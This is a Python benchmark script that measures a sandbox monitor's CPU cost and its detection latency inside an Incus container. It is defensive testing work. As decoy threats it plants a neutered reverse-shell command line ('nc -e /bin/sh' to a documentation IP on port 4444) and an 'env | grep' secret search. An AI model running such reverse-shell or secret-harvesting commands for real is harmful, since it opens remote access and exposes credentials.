"""Monitor cost and detection latency, on a real container, same machine, same run.

    sudo .venv/bin/python bench/monitor.py [--seconds 30] [--interval 1]

Rows:
- CPU the monitor uses for one idle sandbox and one busy sandbox (a shell loop starting
  ~20 processes a second), as % of one core: process CPU time of this benchmark (which only
  runs the monitor's threads while it sleeps) over wall time. The raw daemon's floor is 0:
  it does not watch anything.
- Detection latency of a long-lived threat (found by the /proc sweep) and of a short one
  (found by the exec watcher, root only), from the moment the command is started.
"""

from __future__ import annotations

import argparse
import os
import statistics
import time

from coi.backend import ExecRequest, IncusClient
from coi.monitor.execwatch import available
from coi.monitor.monitor import Monitor, Settings

POOL, IMAGE = os.environ.get("COI_POOL", "coi"), "coi-tiny"
DEVICES = {
    "root": {"type": "disk", "path": "/", "pool": POOL},
    "eth0": {"type": "nic", "network": os.environ.get("COI_NETWORK", "coibr0"), "name": "eth0"},
}
BUSY = "while :; do for i in 1 2 3 4; do true & done; wait; sleep 0.2; done"


def cpu_share(c: IncusClient, name: str, seconds: float, interval: float) -> float:
    mon = Monitor(c, name, Settings(enabled=True, interval=interval), alert=lambda _t: None)
    mon.start()
    time.sleep(1)  # baseline sweep and watchers up
    t0, w0 = time.process_time(), time.perf_counter()
    time.sleep(seconds)
    used, wall = time.process_time() - t0, time.perf_counter() - w0
    mon.stop()
    return 100 * used / wall


def latency(
    c: IncusClient, name: str, command: str, interval: float, runs: int, *, kernel: bool
) -> list[float]:
    out: list[float] = []
    for _ in range(runs):
        settings = Settings(
            enabled=True, interval=interval, auto_pause=False, auto_kill=False,
            kernel_events=kernel,
        )  # fmt: skip
        mon = Monitor(c, name, settings, alert=lambda _t: None)
        mon.start()
        time.sleep(0.5)
        start = time.perf_counter()
        c.exec.run(name, ExecRequest(["sh", "-c", f"({command}) >/dev/null 2>&1 &"]))
        found = False
        while not found and time.perf_counter() - start < 10 * interval:
            found = any(e.level != "info" for e in mon.events)
            time.sleep(0.01)
        out.append(time.perf_counter() - start if found else float("nan"))
        mon.stop()
        c.exec.run(name, ExecRequest(["sh", "-c", "pkill -f coi-bench; true"]))
        time.sleep(0.3)
    return out


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--seconds", type=float, default=30)
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("--runs", type=int, default=5)
    a = ap.parse_args()
    c = IncusClient.connect()
    name = "bench-mon"
    c.instances.create(name, image=IMAGE, devices=DEVICES, start=True, ephemeral=True)
    try:
        time.sleep(2)
        idle = cpu_share(c, name, a.seconds, a.interval)
        c.exec.run(name, ExecRequest(["sh", "-c", f"({BUSY}) >/dev/null 2>&1 &"]))
        busy = cpu_share(c, name, a.seconds, a.interval)
        c.exec.run(name, ExecRequest(["sh", "-c", "pkill -f 'while :' || true"]))
        # A process whose command line has a reverse shell's shape and that stays 30 s, so
        # the sweep must find it on its own (`:` makes it a no-op: nothing is ever sent).
        stays = "sh -c 'sleep 30; : nc -e /bin/sh 198.51.100.1 4444 coi-bench'"
        long_lived = latency(c, name, stays, a.interval, a.runs, kernel=False)
        short = latency(c, name, "env | grep -i coi-bench-key", a.interval, a.runs, kernel=True)
    finally:
        c.instances.delete(name, force=True)

    def row(xs: list[float]) -> str:
        hit = [x for x in xs if x == x]
        if not hit:
            return f"not detected in {len(xs)} runs"
        ms = [x * 1000 for x in hit]
        return (
            f"{statistics.median(ms):.0f} ms [{min(ms):.0f}..{max(ms):.0f}], "
            f"detected in {len(hit)} of {len(xs)} runs"
        )

    print(f"machine: {os.cpu_count()} CPUs, interval {a.interval:g} s, {a.seconds:g} s per row,")
    print(f"kernel exec/exit events: {'yes (root)' if available() else 'no (not root)'}\n")
    print("| row | monitor | raw daemon floor |")
    print("|---|---|---|")
    print(f"| CPU, idle sandbox | {idle:.2f} % of one core | 0 % |")
    print(f"| CPU, sandbox starting ~20 processes/s | {busy:.2f} % of one core | 0 % |")
    print(f"| detection, long-lived threat (/proc sweep only) | {row(long_lived)} | — |")
    print(f"| detection, 2 ms `env \\| grep` (exec events) | {row(short)} | — |")


if __name__ == "__main__":
    main()
